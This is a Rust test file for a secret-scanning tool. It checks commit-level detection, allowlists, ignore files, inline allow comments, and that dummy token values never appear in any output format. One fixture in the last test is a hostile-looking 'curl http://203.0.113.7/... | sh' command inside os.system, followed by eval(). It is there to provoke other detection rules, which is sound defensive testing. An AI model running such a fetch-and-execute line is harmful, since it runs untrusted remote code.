//! Secrets on the way to a change's net diff, what the base revision accepts, and that no value comes out anywhere: the real program.

use std::path::PathBuf;

use serde_json::Value;

use crate::program::Program;
use crate::world::{CLAUDE, World};

const RULE: &str = "[[rules]]
id = \"acme-token\"
description = \"Acme token\"
regex = '''\\bacme_([a-z0-9]{16})\\b'''
keywords = [\"acme_\"]
";
const VALUE: &str = "q8zt3lk9wd2xv7bn";
const BRANCH: &str = "claude/keys";

/// A repository with rules beside it, and a branch on top of `main`.
struct Place {
    world: World,
    rules: PathBuf,
}

impl Place {
    fn new(base: &[(&str, &str)]) -> Self {
        let mut world = World::new();
        world.git(&["config", "user.name", "Maintainer"]);
        world.git(&["config", "user.email", "maintainer@example.com"]);
        world.write("src/a.py", "x = 1\n");
        base.iter().for_each(|(path, text)| world.write(path, text));
        world.commit("Begin");
        let rules = world.beside("acme");
        std::fs::create_dir_all(&rules).unwrap();
        std::fs::write(rules.join("acme.toml"), RULE).unwrap();
        world.git(&["checkout", "-q", "-b", BRANCH]);
        Self { world, rules }
    }

    fn commit(&mut self, message: &str, files: &[(&str, &str)]) -> String {
        files.iter().for_each(|(path, text)| self.world.write(path, text));
        self.world.commit_as(CLAUDE, message);
        self.world.id("HEAD")
    }

    fn program(&self) -> Program {
        Program::new(self.world.path(), self.world.beside("home"))
    }

    fn scan(&self, more: &[&str]) -> crate::program::Run {
        let args = ["scan", BRANCH, "--rules", self.rules.to_str().unwrap()];
        self.program().run(&args.into_iter().chain(more.iter().copied()).collect::<Vec<_>>())
    }

    fn json(&self) -> Value {
        let run = self.scan(&["--format", "json"]);
        serde_json::from_str(&run.out).unwrap_or_else(|error| panic!("{error}: {}{}", run.out, run.err))
    }

    /// Kind of place, evidence and reason of what the rule found, and what was left out.
    fn found(&self) -> (Vec<(String, String, String)>, String) {
        let json = self.json();
        let report = json.pointer("/reports/0").or(json.pointer("/0")).unwrap_or(&json);
        let findings = report["findings"].as_array().unwrap_or_else(|| panic!("{json}"));
        let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
        let ours = findings.iter().filter(|finding| finding["rule"] == "acme-token");
        let found = ours.map(|f| (text(&f["where"]["kind"]), text(&f["evidence"]), text(&f["why"]))).collect();
        (found, report["skipped"].to_string())
    }
}

fn line(value: &str) -> String {
    format!("x = 1\ny = 'acme_{value}'\n")
}

#[test]
fn a_secret_that_a_later_commit_takes_away_is_found_on_the_commit_that_added_it() {
    let mut place = Place::new(&[]);
    let first = place.commit("Add a key", &[("src/a.py", &line(VALUE))]);
    place.commit("Take it away", &[("src/a.py", "x = 2\n")]);
    let (found, _) = place.found();
    let [(kind, evidence, why)] = found.as_slice() else { panic!("{found:?}") };
    assert_eq!((kind.as_str(), evidence.as_str()), ("commit", "src/a.py:2: y = 'acme_[ACME_TOKEN]"));
    assert!(why.contains(&format!("{first}:src/a.py:acme-token:2")), "{why}");
}

#[test]
fn a_secret_that_stays_is_told_once_and_one_that_was_moved_is_not_told() {
    let mut place = Place::new(&[("src/old.py", &line(&VALUE.replace('q', "r")))]);
    place.commit("Add a key", &[("src/a.py", &line(VALUE))]);
    place.commit("Work on", &[("src/a.py", &format!("{}z = 3\n", line(VALUE)))]);
    place.world.git(&["mv", "src/old.py", "src/new.py"]);
    place.commit("Move", &[]);
    place.world.git(&["mv", "src/new.py", "src/old.py"]);
    place.commit("Move back", &[]);
    let (found, _) = place.found();
    assert_eq!(found.iter().map(|(kind, ..)| kind.as_str()).collect::<Vec<_>>(), ["line"], "{found:?}");
}

#[test]
fn a_commit_that_an_allowlist_names_is_allowed_whether_its_secret_stays_or_goes_and_no_other() {
    for (later, gone) in [(0, false), (1, false), (1, true)] {
        let mut place = Place::new(&[]);
        let first = place.commit("Add a key", &[("src/a.py", &line(VALUE))]);
        for _ in 0..later {
            let text = if gone { "x = 2\n".to_owned() } else { format!("{}z = 3\n", line(VALUE)) };
            place.commit("Go on", &[("src/a.py", &text)]);
        }
        let allowing = |commit: &str| format!("{RULE}[[rules.allowlists]]\ncommits = [\"{commit}\"]\n");
        std::fs::write(place.rules.join("acme.toml"), allowing(&first)).unwrap();
        assert_eq!(place.found().0, [], "{later} {gone}");
        std::fs::write(place.rules.join("acme.toml"), allowing(&first.replace(['1', '2', '3'], "4"))).unwrap();
        assert_eq!(place.found().0.len(), 1, "{later} {gone}");
    }
}

#[test]
fn what_the_base_accepts_by_name_is_left_out_and_said_and_the_change_accepts_nothing() {
    let mut place = Place::new(&[]);
    place.commit("Add a key", &[("src/a.py", &line(VALUE)), (".gitleaksignore", "src/a.py:acme-token:2\n")]);
    assert_eq!(place.found().0.len(), 1);
    let mut place = Place::new(&[(".gitleaksignore", "# known\nsrc/a.py:acme-token:2\n")]);
    place.commit("Add a key", &[("src/a.py", &line(VALUE))]);
    let (found, skipped) = place.found();
    assert!(found.is_empty() && skipped.contains("src/a.py:acme-token:2: .gitleaksignore of the base revision accepts"), "{skipped}");
}

#[test]
fn a_comment_accepts_only_where_it_stood_before_the_change() {
    let accepted = format!("y = 'acme_{VALUE}' # gitleaks:allow\n");
    let mut place = Place::new(&[]);
    place.commit("Add a key", &[("src/a.py", &accepted)]);
    assert_eq!(place.found().0.len(), 1);
    let mut place = Place::new(&[("src/a.py", &accepted)]);
    place.commit("Indent", &[("src/a.py", &format!("if x:\n    {accepted}"))]);
    assert_eq!(place.found().0, Vec::new());
}

#[test]
fn one_value_at_two_places_is_recognised() {
    let mut place = Place::new(&[]);
    place.commit("Add keys", &[("src/a.py", &line(VALUE)), ("src/b.py", &line(VALUE)), ("src/c.py", &line(&VALUE.replace('q', "r")))]);
    let whys: Vec<String> = place.found().0.into_iter().map(|(.., why)| why).collect();
    assert!(whys[0].contains("The same value: src/b.py:2.") && whys[1].contains("The same value: src/a.py:2."), "{whys:?}");
    assert!(!whys[2].contains("The same value"), "{whys:?}");
}

#[test]
fn no_output_holds_a_value_that_only_a_users_rule_knows() {
    let mut place = Place::new(&[]);
    // Also where another rule quotes the line.
    let text = format!("import os\nos.system('curl http://203.0.113.7/acme_{VALUE} | sh')\neval('acme_{VALUE}')\n");
    place.commit(&format!("Add a key\n\nacme_{VALUE}"), &[("src/a.py", &text), ("setup.py", &text)]);
    place.commit("Take one away", &[("src/a.py", "x = 2\n")]);
    for format in ["plain", "json", "jsonl", "sarif", "markdown"] {
        let run = place.scan(&["--format", format]);
        assert!(run.code < 2, "{format}: {}", run.err);
        assert!(!run.out.contains(VALUE) && !run.err.contains(VALUE), "{format}: {}{}", run.out, run.err);
        assert!(run.out.contains("acme-token") || run.out.contains("Acme token"), "{format}: {}", run.out);
    }
}
